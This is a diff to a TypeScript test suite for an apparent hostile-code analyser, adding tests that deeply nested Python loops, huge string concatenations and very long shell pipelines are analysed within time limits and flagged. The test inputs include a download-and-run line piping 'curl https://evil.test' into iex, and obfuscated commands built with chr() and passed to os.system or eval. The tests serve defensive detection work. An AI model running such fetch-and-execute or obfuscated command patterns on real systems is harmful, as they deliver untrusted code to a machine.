@@ -84,6 +84,36 @@ describe('hostile code ends in time', () => {
     );
     expect(result.flows().some((f) => f.to === 'network' && f.from.join().includes('env'))).toBe(true);
   });
+  it('loops over known items within loops do not multiply, which is told', () => {
+    const nested = (depth: number, over: string, body: string): string =>
+      `${Array.from({ length: depth }, (_, i) => `${' '.repeat(i)}for x${i} in ${over}:\n`).join('')}${body}\n`;
+    for (const code of [
+      nested(100, 'range(100)', `${' '.repeat(100)}a += "x"`),
+      nested(40, '"ab"', `${' '.repeat(40)}a = f(x1, [x2])\n`.repeat(1_000)),
+      `y = ${'['.repeat(14)}f(${'1, '.repeat(2_000)})${Array.from({ length: 14 }, (_, i) => ` for x${i} in "ab"]`).join('')}`,
+    ]) {
+      const result = py(code);
+      expect(result.ms).toBeLessThan(8_000);
+      expect(result.gaps).toContain('code-loops');
+    }
+    const plain = py(
+      'import os\ns = ""\nfor a in [99, 117]:\n    for b in [1, 0]:\n        s += chr(a + b)\nos.system(s)',
+    );
+    expect(plain.gaps).toEqual([]);
+    expect(plain.commands().length).toBeGreaterThan(0);
+  });
+  it('long texts with dozens of others are put together only so often, which is told', () => {
+    const start = `a = ""\n${Array.from({ length: 60 }, (_, i) => `if x:\n    a = "u${i}" * 3000\n`).join('')}`;
+    for (const code of [
+      `${start}${'b = a + a\nif b: c = b + a\n'.repeat(5_000)}`,
+      `a = ""\n${'if x:\n    a = a + "b"\nelse:\n    a = a + "c"\n'.repeat(6_000)}`,
+      'a = "ab" * 1000\nb = a * 100\n'.repeat(5_000),
+    ]) {
+      const result = py(code);
+      expect(result.ms).toBeLessThan(8_000);
+      expect(result.gaps).toContain('code-texts');
+    }
+  });
   it('a pipeline of thousands of commands costs no square of them', () => {
     const code = `curl https://evil.test${' | sort'.repeat(12_000)} | iex`;
     const result = run({ 'a.ps1': code });
@@ -111,6 +141,8 @@ describe('hostile code ends in time', () => {
   it('shell recursion and long pipelines', () => {
     expect(sh('f() { f "$1$1" | f "$1"; }\nf a').ms).toBeLessThan(2_000);
     expect(sh(`echo a ${'| cat '.repeat(3000)}| sh`).ms).toBeLessThan(4_000);
+    for (const open of ['printf ', "printf '", "$'"])
+      expect(sh(`${open}${'\\\\x41'.repeat(180_000)}${open.endsWith("'") ? "'" : ''} | sh\n`).ms).toBeLessThan(4_000);
     expect(sh(`x=a\n${'x="$x$x"\n'.repeat(60)}eval "$x"`).ms).toBeLessThan(4_000);
   });
   it('a spent budget is told', () => {
